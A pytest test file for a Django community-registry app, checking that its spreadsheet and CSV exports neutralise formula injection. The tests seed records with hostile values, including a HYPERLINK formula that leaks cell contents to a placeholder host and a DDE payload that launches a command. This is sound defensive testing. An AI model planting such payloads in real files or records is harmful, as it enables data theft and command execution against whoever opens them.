"""Every export a user can download, filled with formula-like text: no cell of any of them is a formula.

The export endpoints are found in the URL conf and the OpenAPI schema (a path ending in .xlsx or .csv, or
a route named *export*), so a new export fails `test_every_export_endpoint_is_covered` until it is added
here. The text of people, addresses, units and reasons starts with `=`, `+`, `-`, `@`, tab or CR.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import uuid

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from python_calamine import CalamineWorkbook

from linli.audit.services.events import audit_record
from linli.conftest import NANQIAO, NQ_COMMUNITY, NQ_GRID
from linli.core.spreadsheet import FORMULA_TRIGGERS
from linli.org.models import Unit
from linli.registry.models import ImportJob, Resident

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example/?q="&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

# Route name → how the test calls it. A new export route must be added here (see the first test).
EXPORT_ROUTES = {
    "vaccination-export": "vaccination",
    "hazard-summary-export": "hazards",
    "import-job-report": "import report",
    "audit-export": "audit log (xlsx and csv)",
}


def _walk(patterns, prefix=""):
    for pattern in patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, route)
        elif isinstance(pattern, URLPattern):
            yield route, pattern.name or ""


def _is_export(route: str, name: str) -> bool:
    return bool(re.search(r"\.(xlsx|csv)\W*$", route)) or "export" in name


def test_every_export_endpoint_is_covered(client_for):
    found = {name or route for route, name in _walk(get_resolver().url_patterns) if _is_export(route, name)}
    assert found == set(EXPORT_ROUTES)
    schema = client_for("admin").get("/api/v1/openapi.json").json()
    api_exports = [path for path in schema["paths"] if _is_export(path, path)]
    assert api_exports == [], "an API export needs a case in this file"


@pytest.fixture
def hostile_world(persona):
    """Elderly residents (so they are on the vaccination list) whose every text field is hostile."""
    today = timezone.localdate()
    for index, text in enumerate(HOSTILE):
        Resident.objects.create(
            name=text[:50], document_kind="none", birth_date=today.replace(year=today.year - 70 - index),
            residence_type="registered", unit_path=NQ_GRID, reported_address=text,
            household_number=text[:30], relation_to_head=text[:20],
        )  # fmt: skip
    # Units are named by administrators; a committee's name still must not become a formula.
    Unit.objects.filter(path=NQ_COMMUNITY).update(name=HOSTILE[0])
    resident = Resident.objects.filter(unit_path=NQ_GRID).first()
    for text in HOSTILE:
        audit_record(
            actor=persona("nanqiao"), action="resident.view", obj=resident, unit_path=NQ_GRID, reason=text
        )


def _xlsx_cells(data: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_xlsx(data: bytes, *, expect: list[str]) -> None:
    assert data[:2] == b"PK", data[:200]
    formulas = [(c.coordinate, c.value) for c in _xlsx_cells(data) if c.data_type == "f"]
    assert formulas == []
    # The hostile text is there, as typed (calamine decodes the escaped CR as a spreadsheet does).
    values = {
        str(v) for row in CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
        for v in row
    }  # fmt: skip
    for text in expect:
        assert any(text in value for value in values), text


def _assert_no_formula_csv(data: bytes, *, expect: list[str]) -> None:
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]
    assert live == []
    cells = [cell for row in rows for cell in row]
    for text in expect:
        assert any(text in cell for cell in cells), text


def test_the_vaccination_list_has_no_formula(client_for, hostile_world):
    response = client_for("grid-nq").get(f"/care/units/{NQ_GRID}/vaccination.xlsx")
    assert response.status_code == 200
    # Names, addresses and the committee: every hostile spelling reaches the sheet, as text.
    _assert_no_formula_xlsx(response.content, expect=HOSTILE)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0).to_python()
    names = {row[0] for row in rows[2:]}
    assert set(HOSTILE) <= names
    assert {row[3] for row in rows[2:]} == {HOSTILE[0]}


def test_the_hazard_summary_has_no_formula(client_for, hostile_world):
    today = timezone.localdate()
    response = client_for("nanqiao").get(
        f"/safety/units/{NANQIAO}/hazards/summary.xlsx",
        {"from": (today - datetime.timedelta(days=30)).isoformat(), "to": today.isoformat()},
    )
    assert response.status_code == 200
    _assert_no_formula_xlsx(response.content, expect=[HOSTILE[0]])


def test_the_import_error_report_has_no_formula(client_for, settings, tmp_path):
    settings.VAR_DIR = tmp_path
    header = ["姓名", "身份证号", "联系电话", "人口类型", "现住址"]
    rows = [header] + [[text, "1", "2", text, text] for text in HOSTILE if text.isprintable()]
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    # openpyxl would store these as formulas: the importer reads them as the text they are.
    for row in workbook.active.iter_rows(min_row=2):
        for cell in row:
            cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    client = client_for("nanqiao")
    response = client.post(
        "/imports/new/",
        {"kind": "residents", "grid": NQ_GRID, "file": SimpleUploadedFile("人口.xlsx", buffer.getvalue())},
    )
    assert response.status_code == 302, response.content.decode()[:500]
    job = ImportJob.objects.get(uuid=uuid.UUID(response["Location"].rstrip("/").rsplit("/", 1)[-1]))
    assert job.rejected == len(rows) - 1
    report = client.get(f"/imports/{job.uuid}/report.xlsx")
    assert report.status_code == 200
    data = b"".join(report.streaming_content)
    # The messages quote the hostile residence types; none of them is a formula.
    _assert_no_formula_xlsx(data, expect=["+1+1", "@SUM(A1)"])
    disposition = report["Content-Disposition"]
    assert "filename*=UTF-8''" in disposition


def test_the_audit_export_has_no_formula(client_for, hostile_world):
    client = client_for("auditor")
    xlsx = client.get("/audit/export/")
    assert xlsx.status_code == 200
    _assert_no_formula_xlsx(xlsx.content, expect=HOSTILE)
    as_csv = client.get("/audit/export/", {"format": "csv"})
    assert as_csv.status_code == 200
    _assert_no_formula_csv(as_csv.content, expect=[text.lstrip("\t\r") for text in HOSTILE])


def test_the_import_keeps_formula_like_text_as_typed(persona, tmp_path):
    from linli.lib.idcard import make_id_number
    from linli.registry.services.imports.residents import import_residents

    typed = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x","y")']
    rows = [["姓名", "身份证号", "联系电话", "人口类型", "现住址"]]
    for index, text in enumerate(typed):
        number = make_id_number("310120", datetime.date(1960, 1, 1 + index), 101 + 2 * index, "M")
        rows.append([text, number, "", "户籍", text])
    path = tmp_path / "r.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    report = import_residents(actor=persona("nanqiao"), path=path, unit=Unit.objects.get(code=NQ_GRID))
    assert report.errors == []
    stored = dict(Resident.objects.filter(name__in=typed).values_list("name", "reported_address"))
    assert stored == {text: text for text in typed}


def test_the_cli_error_report_csv_is_guarded():
    """`linli import --report FILE` writes the same report as csv: a quoted value cannot start a formula."""
    from linli.registry.services.imports.report import ImportReport, RowError, report_csv

    report = ImportReport(
        errors=[RowError(2, "=姓名", '=HYPERLINK("http://x","y")'), RowError(3, "人口类型", "-1")]
    )
    rows = list(csv.reader(io.StringIO(report_csv(report), newline="")))
    assert rows[0] == ["行号", "列", "问题"]
    assert rows[1] == ["2", "'=姓名", '\'=HYPERLINK("http://x","y")']
    assert rows[2] == ["3", "人口类型", "'-1"]
